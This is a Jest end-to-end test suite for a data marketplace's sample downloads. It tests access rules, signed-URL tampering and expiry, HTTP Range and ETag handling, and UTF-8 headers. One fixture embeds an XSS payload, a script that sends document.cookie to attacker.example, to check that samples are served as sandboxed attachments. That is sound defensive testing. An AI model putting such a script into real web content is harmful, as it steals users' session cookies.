import { createHash, randomBytes, randomUUID } from 'node:crypto';
import { s3TestStorage, type TestStorage } from '../../apps/delivery/test/storage-drivers';
import { sampleGrant, sampleUrl } from '../../apps/delivery/src/samples/sample-ticket';
import { parseSigningKeys } from '../../apps/delivery/src/signing/signing-keys';
import { UrlSigner } from '../../apps/delivery/src/signing/url-signer';
import { speechListing, VendorClient } from '../support/catalog';
import { withDatabase } from '../support/postgres';
import { json, TroveSystem } from '../support/system';

jest.setTimeout(300_000);

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

/** Half a second of 16 kHz, 16-bit mono PCM behind a RIFF/WAVE header: what a speech corpus's preview is. */
function wav(pcm: Buffer): Buffer {
  const header = Buffer.alloc(44);
  header.write('RIFF', 0, 'ascii');
  header.writeUInt32LE(36 + pcm.length, 4);
  header.write('WAVEfmt ', 8, 'ascii');
  header.writeUInt32LE(16, 16);
  header.writeUInt16LE(1, 20);
  header.writeUInt16LE(1, 22);
  header.writeUInt32LE(16_000, 24);
  header.writeUInt32LE(32_000, 28);
  header.writeUInt16LE(2, 32);
  header.writeUInt16LE(16, 34);
  header.write('data', 36, 'ascii');
  header.writeUInt32LE(pcm.length, 40);
  return Buffer.concat([header, pcm]);
}

/** SFT pairs as a Chinese instruction-tuning corpus ships them, one JSON object a line. */
const SFT_PAIRS = Buffer.from(
  [
    { instruction: '请把下面这句话翻译成英文：今天天气很好。', output: 'The weather is nice today.' },
    { instruction: '用一句话解释什么是语音识别。', output: '语音识别是把人说的话自动转写成文字的技术。' },
    { instruction: '帮我查询一下本月的话费余额。', output: '好的，您本月的话费余额为 58.30 元。' },
  ]
    .map((pair) => JSON.stringify(pair))
    .join('\n') + '\n',
);

/** A "sample" that a browser would run if delivery let it: HTML with a script. */
const HTML_SAMPLE = Buffer.from('<!doctype html><html><body><script>fetch("https://attacker.example/?c="+document.cookie)</script>样例</body></html>');

interface Sample {
  id: string;
  path: string;
  size: number;
  sha256: string;
  contentType: string | null;
  createdAt: string;
}

/** The whole story on each storage driver, as delivery.e2e.ts tells downloads. */
const DRIVERS: [string, () => Promise<TestStorage | null>][] = [
  ['the filesystem driver', async () => null],
  ['the S3 driver (s3rver started here)', s3TestStorage],
];

describe.each(DRIVERS)("a listing's samples through the public API, %s", (_name, startStorage) => {
  let storage: TestStorage | null;
  let system: TroveSystem;
  let vendor: VendorClient;
  let other: VendorClient;
  let buyerKey: string;
  let datasetId: string;
  const audio = wav(randomBytes(16_000));
  const files: Record<string, { bytes: Buffer; type: string }> = {
    'samples/utt_000001.wav': { bytes: audio, type: 'audio/wav' },
    'samples/对话样例 (1).jsonl': { bytes: SFT_PAIRS, type: 'application/jsonl' },
    'samples/preview.html': { bytes: HTML_SAMPLE, type: 'text/html' },
  };

  const as = (who: 'anonymous' | 'admin' | { key: string }) => ({ as: who });
  const getSample = async (sampleId: string, who: 'anonymous' | 'admin' | { key: string }, id = datasetId) => {
    const response = await system.request(`/v1/datasets/${id}/samples/${sampleId}`, as(who));
    return { status: response.status, type: response.headers.get('content-type'), body: await json(response) };
  };
  const uploadSample = async (path: string, bytes: Buffer, type: string) => {
    const signed = await vendor.expect(201, `/v1/datasets/${datasetId}/samples`, 'POST', { path, size: bytes.length, sha256: sha256(bytes) });
    const put = await fetch(signed.uploadUrl, { method: 'PUT', body: bytes, headers: { 'content-type': type } });
    expect(put.status).toBe(201);
  };
  /** The samples as the listing's page shows them to `who`. */
  const listed = async (who: 'anonymous' | 'admin' | { key: string }): Promise<Record<string, Sample>> => {
    const detail = await json(await system.request(`/v1/datasets/${datasetId}`, as(who)));
    return Object.fromEntries((detail.samples as Sample[]).map((s) => [s.path, s]));
  };
  const fetchBytes = async (url: string, init: RequestInit = {}) => {
    const response = await fetch(url, init);
    return { status: response.status, headers: response.headers, body: Buffer.from(await response.arrayBuffer()) };
  };
  const expectProblem = async (url: string, status: number, code: string) => {
    const response = await fetch(url);
    const text = await response.text();
    expect({ status: response.status, type: response.headers.get('content-type'), code: JSON.parse(text).code }).toEqual({
      status,
      type: expect.stringMatching(/^application\/problem\+json/),
      code,
    });
  };

  beforeAll(async () => {
    storage = await startStorage();
    system = await TroveSystem.start({ apps: ['gateway', 'catalog', 'delivery'], env: { LOG_LEVEL: 'warn', ...(storage?.env ?? {}) } });
    vendor = await VendorClient.signUp(system, '海天瑞声 SpeechOcean');
    other = await VendorClient.signUp(system, '标贝科技 DataBaker');
    const buyer = await json(
      await system.request('/v1/organizations', { method: 'POST', as: 'anonymous', body: JSON.stringify({ name: '中国移动九天人工智能', kind: 'buyer', contactEmail: 'ai@example.cn' }) }),
    );
    buyerKey = buyer.apiKey;
    const { dataset } = await vendor.listing(speechListing());
    datasetId = dataset.id;
    for (const [path, { bytes, type }] of Object.entries(files)) await uploadSample(path, bytes, type);
  });

  afterAll(async () => {
    await system?.stop();
    await storage?.stop();
  });

  it("shows a draft listing's sample to its vendor and admins only: 404 NOT_FOUND to anonymous callers, a buyer and another vendor", async () => {
    const samples = await listed({ key: vendor.key });
    expect(Object.keys(samples).sort()).toEqual(Object.keys(files).sort());
    const wavSample = samples['samples/utt_000001.wav'];

    for (const who of ['anonymous', { key: buyerKey }, { key: other.key }] as const) {
      const refused = await getSample(wavSample.id, who);
      expect({ status: refused.status, type: refused.type, code: refused.body.code }).toEqual({
        status: 404,
        type: expect.stringMatching(/^application\/problem\+json/),
        code: 'NOT_FOUND',
      });
    }
    for (const who of [{ key: vendor.key }, 'admin'] as const) {
      const answer = await getSample(wavSample.id, who);
      expect(answer.status).toBe(200);
      expect(answer.body).toEqual({ ...wavSample, url: expect.stringMatching(/^http:\/\/127\.0\.0\.1:\d+\/files\/samples\//), expiresAt: expect.any(String) });
      const downloaded = await fetchBytes(answer.body.url);
      expect({ status: downloaded.status, sha256: sha256(downloaded.body) }).toEqual({ status: 200, sha256: wavSample.sha256 });
    }
  });

  it('lets an anonymous client download a published listing\'s samples: the bytes whose SHA-256 the listing shows, as an inert attachment', async () => {
    await vendor.expect(200, `/v1/datasets/${datasetId}/submit`, 'POST');
    expect((await system.request(`/v1/admin/datasets/${datasetId}/approve`, { method: 'POST' })).status).toBe(200);

    const samples = await listed('anonymous');
    for (const [path, { bytes, type }] of Object.entries(files)) {
      const sample = samples[path];
      expect(sample).toMatchObject({ size: bytes.length, sha256: sha256(bytes), contentType: type });
      const before = Date.now();
      const answer = await getSample(sample.id, 'anonymous');
      expect(answer.status).toBe(200);
      expect(answer.body).toEqual({ ...sample, url: expect.any(String), expiresAt: expect.any(String) });
      // An hour by default (SAMPLE_URL_TTL_SECONDS).
      const expiresAt = Date.parse(answer.body.expiresAt);
      expect(expiresAt).toBeGreaterThan(before + 3_500_000);
      expect(expiresAt).toBeLessThanOrEqual(Date.now() + 3_600_000);

      const downloaded = await fetchBytes(answer.body.url);
      expect(downloaded.status).toBe(200);
      expect(sha256(downloaded.body)).toBe(sample.sha256);
      const name = path.split('/').pop()!;
      expect({
        etag: downloaded.headers.get('etag'),
        ranges: downloaded.headers.get('accept-ranges'),
        length: downloaded.headers.get('content-length'),
        type: downloaded.headers.get('content-type'),
        disposition: downloaded.headers.get('content-disposition'),
        nosniff: downloaded.headers.get('x-content-type-options'),
        csp: downloaded.headers.get('content-security-policy'),
      }).toEqual({
        etag: `"${sample.sha256}"`,
        ranges: 'bytes',
        length: String(bytes.length),
        // Text and JSON are served as UTF-8, so a client decodes their Chinese right.
        type: type === 'audio/wav' ? type : `${type}; charset=utf-8`,
        disposition: `attachment; filename*=UTF-8''${encodeURIComponent(name).replace(/[()]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`)}`,
        nosniff: 'nosniff',
        csp: "sandbox; default-src 'none'",
      });
    }
    // The JSONL's file name is percent-encoded as RFC 8187 wants it, parentheses too.
    const jsonl = await getSample(samples['samples/对话样例 (1).jsonl'].id, 'anonymous');
    expect((await fetch(jsonl.body.url)).headers.get('content-disposition')).toBe("attachment; filename*=UTF-8''%E5%AF%B9%E8%AF%9D%E6%A0%B7%E4%BE%8B%20%281%29.jsonl");

    // A sample is not a sale: nothing is counted against any entitlement.
    const downloads = await withDatabase(system.databases.get('delivery')!.url, async (c) => (await c.query('SELECT count(*)::int AS n FROM download')).rows[0].n as number);
    expect(downloads).toBe(0);
  });

  it('answers Range with 206 and the right bytes, If-Range with another ETag or two ranges with the whole sample, a range past it with 416, and HEAD with the headers alone', async () => {
    const sample = (await listed('anonymous'))['samples/utt_000001.wav'];
    const { url } = (await getSample(sample.id, 'anonymous')).body;

    const middle = await fetchBytes(url, { headers: { range: 'bytes=44-1043' } });
    expect({ status: middle.status, range: middle.headers.get('content-range'), length: middle.headers.get('content-length') }).toEqual({
      status: 206,
      range: `bytes 44-1043/${audio.length}`,
      length: '1000',
    });
    expect(middle.body.equals(audio.subarray(44, 1044))).toBe(true);
    const tail = await fetchBytes(url, { headers: { range: 'bytes=-100' } });
    expect({ status: tail.status, same: tail.body.equals(audio.subarray(audio.length - 100)) }).toEqual({ status: 206, same: true });
    const header = await fetchBytes(url, { headers: { range: 'bytes=0-43', 'if-range': `"${sample.sha256}"` } });
    expect({ status: header.status, riff: header.body.subarray(0, 4).toString('ascii'), length: header.body.length }).toEqual({ status: 206, riff: 'RIFF', length: 44 });
    const stale = await fetchBytes(url, { headers: { range: 'bytes=0-43', 'if-range': `"${'0'.repeat(64)}"` } });
    expect({ status: stale.status, sha256: sha256(stale.body) }).toEqual({ status: 200, sha256: sample.sha256 });
    const unchanged = await fetchBytes(url, { headers: { 'if-none-match': `"${sample.sha256}"` } });
    expect({ status: unchanged.status, etag: unchanged.headers.get('etag'), length: unchanged.body.length }).toEqual({ status: 304, etag: `"${sample.sha256}"`, length: 0 });
    // Several ranges the sample holds are not refused: the Range is ignored, and the whole sample comes back.
    const two = await fetchBytes(url, { headers: { range: 'bytes=0-1,5-6' } });
    expect({ status: two.status, range: two.headers.get('content-range'), etag: two.headers.get('etag'), sha256: sha256(two.body) }).toEqual({
      status: 200,
      range: null,
      etag: `"${sample.sha256}"`,
      sha256: sample.sha256,
    });
    const past = await fetch(url, { headers: { range: `bytes=${audio.length}-` } });
    expect({ status: past.status, range: past.headers.get('content-range'), etag: past.headers.get('etag'), code: (await json(past)).code }).toEqual({
      status: 416,
      range: `bytes */${audio.length}`,
      etag: `"${sample.sha256}"`,
      code: 'RANGE_NOT_SATISFIABLE',
    });

    const head = await fetchBytes(url, { method: 'HEAD' });
    expect({
      status: head.status,
      length: head.headers.get('content-length'),
      etag: head.headers.get('etag'),
      type: head.headers.get('content-type'),
      csp: head.headers.get('content-security-policy'),
      body: head.body.length,
    }).toEqual({ status: 200, length: String(audio.length), etag: `"${sample.sha256}"`, type: 'audio/wav', csp: "sandbox; default-src 'none'", body: 0 });
    const headRange = await fetchBytes(url, { method: 'HEAD', headers: { range: 'bytes=0-9' } });
    expect({ status: headRange.status, length: headRange.headers.get('content-length'), range: headRange.headers.get('content-range') }).toEqual({
      status: 206,
      length: '10',
      range: `bytes 0-9/${audio.length}`,
    });
  });

  it('answers an If-Match without the sample\'s ETag with 412 problem+json and no bytes, and serves one with it', async () => {
    const sample = (await listed('anonymous'))['samples/utt_000001.wav'];
    const { url } = (await getSample(sample.id, 'anonymous')).body;
    const etag = `"${sample.sha256}"`;
    const conditions: Record<string, string>[] = [{ 'if-match': '"nope"' }, { 'if-match': `W/${etag}` }, { 'if-match': '"nope"', range: 'bytes=0-9' }];
    for (const headers of conditions) {
      const refused = await fetch(url, { headers });
      const text = await refused.text();
      expect({ headers, status: refused.status, type: refused.headers.get('content-type'), etag: refused.headers.get('etag'), code: JSON.parse(text).code }).toEqual({
        headers,
        status: 412,
        type: expect.stringMatching(/^application\/problem\+json/),
        etag,
        code: 'PRECONDITION_FAILED',
      });
      expect(text).not.toContain('RIFF');
    }
    expect((await fetch(url, { method: 'HEAD', headers: { 'if-match': '"nope"' } })).status).toBe(412);
    for (const ifMatch of [etag, `"nope", ${etag}`, '*']) {
      const served = await fetchBytes(url, { headers: { 'if-match': ifMatch, range: 'bytes=0-3' } });
      expect({ ifMatch, status: served.status, riff: served.body.toString('ascii') }).toEqual({ ifMatch, status: 206, riff: 'RIFF' });
    }
  });

  it('serves a text sample uploaded as `text/plain; charset=utf-8` with its charset, so a client decodes its Chinese', async () => {
    const text = Buffer.from('样本内容：客服通话转写，一行一句。\n');
    await uploadSample('samples/说明.txt', text, 'text/plain; charset=UTF-8');
    const sample = (await listed('anonymous'))['samples/说明.txt'];
    // The listing shows the media type alone: nothing but the type is kept from the header.
    expect(sample).toMatchObject({ size: text.length, sha256: sha256(text), contentType: 'text/plain' });
    const { url } = (await getSample(sample.id, 'anonymous')).body;
    const downloaded = await fetchBytes(url);
    const type = downloaded.headers.get('content-type')!;
    expect({ status: downloaded.status, type }).toEqual({ status: 200, type: 'text/plain; charset=utf-8' });
    // What a client does with it (Python's requests: ISO-8859-1 for text/* without a charset).
    const charset = /;\s*charset=([^;]+)/i.exec(type)?.[1] ?? 'latin1';
    expect(new TextDecoder(charset).decode(downloaded.body)).toBe(text.toString('utf8'));
    expect(new TextDecoder(charset).decode(downloaded.body)).toContain('样本内容');
  });

  it('refuses a tampered or expired URL with 403 problem+json, and an unknown sample with 404', async () => {
    const sample = (await listed('anonymous'))['samples/utt_000001.wav'];
    const { url } = (await getSample(sample.id, 'anonymous')).body;

    const changedSig = new URL(url);
    const sig = changedSig.searchParams.get('sig')!;
    changedSig.searchParams.set('sig', sig.slice(0, 10) + (sig[10] === 'A' ? 'B' : 'A') + sig.slice(11));
    await expectProblem(changedSig.toString(), 403, 'URL_INVALID');
    // The URL of one sample made to name another, or to serve its bytes as HTML.
    const otherPath = new URL(url);
    otherPath.pathname = otherPath.pathname.replace('utt_000001.wav', 'preview.html');
    await expectProblem(otherPath.toString(), 403, 'URL_INVALID');
    const asHtml = new URL(url);
    asHtml.searchParams.set('type', 'text/html');
    await expectProblem(asHtml.toString(), 403, 'URL_INVALID');
    const unsigned = new URL(url);
    unsigned.search = '';
    await expectProblem(unsigned.toString(), 403, 'URL_INVALID');

    // A URL signed with delivery's own key, as catalog has it signed, whose expiry has passed.
    const signer = new UrlSigner(parseSigningKeys(system.signingKeys));
    const ticket = { datasetId, path: sample.path, sha256: sample.sha256, contentType: 'audio/wav', expires: Math.floor(Date.now() / 1000) - 1 };
    const parsed = new URL(url);
    await expectProblem(sampleUrl(`${parsed.protocol}//${parsed.host}`, ticket, signer.sign(sampleGrant(ticket))), 403, 'URL_EXPIRED');

    const unknown = await getSample(randomUUID(), 'anonymous');
    expect({ status: unknown.status, type: unknown.type, code: unknown.body.code }).toEqual({ status: 404, type: expect.stringMatching(/^application\/problem\+json/), code: 'NOT_FOUND' });
    expect((await getSample(sample.id, 'anonymous', randomUUID())).status).toBe(404);
    const malformed = await getSample('utt_000001', 'anonymous');
    expect({ status: malformed.status, code: malformed.body.code }).toEqual({ status: 400, code: 'VALIDATION_FAILED' });
  });

  it('refuses the URL of a sample its vendor has since replaced by other bytes with 404, and hands out one of the new bytes', async () => {
    const before = (await listed('anonymous'))['samples/utt_000001.wav'];
    const oldUrl = (await getSample(before.id, 'anonymous')).body.url;
    const replacement = wav(randomBytes(8_000));
    await uploadSample('samples/utt_000001.wav', replacement, 'audio/wav');

    await expectProblem(oldUrl, 404, 'NOT_FOUND');
    expect((await fetch(oldUrl, { method: 'HEAD' })).status).toBe(404);
    const after = await getSample(before.id, 'anonymous');
    expect(after.body).toMatchObject({ id: before.id, size: replacement.length, sha256: sha256(replacement) });
    const downloaded = await fetchBytes(after.body.url);
    expect({ status: downloaded.status, sha256: sha256(downloaded.body) }).toEqual({ status: 200, sha256: sha256(replacement) });
  });

  it('stops handing out URLs once the listing is suspended (its vendor and admins still get them); a URL handed out before works until it expires', async () => {
    const sample = (await listed('anonymous'))['samples/对话样例 (1).jsonl'];
    const earlier = (await getSample(sample.id, 'anonymous')).body.url;
    expect((await system.request(`/v1/admin/datasets/${datasetId}/suspend`, { method: 'POST' })).status).toBe(200);

    expect((await getSample(sample.id, 'anonymous')).status).toBe(404);
    expect((await getSample(sample.id, { key: buyerKey })).status).toBe(404);
    expect((await getSample(sample.id, { key: vendor.key })).status).toBe(200);
    expect((await getSample(sample.id, 'admin')).status).toBe(200);
    const downloaded = await fetchBytes(earlier);
    expect({ status: downloaded.status, sha256: sha256(downloaded.body) }).toEqual({ status: 200, sha256: sample.sha256 });
  });
});
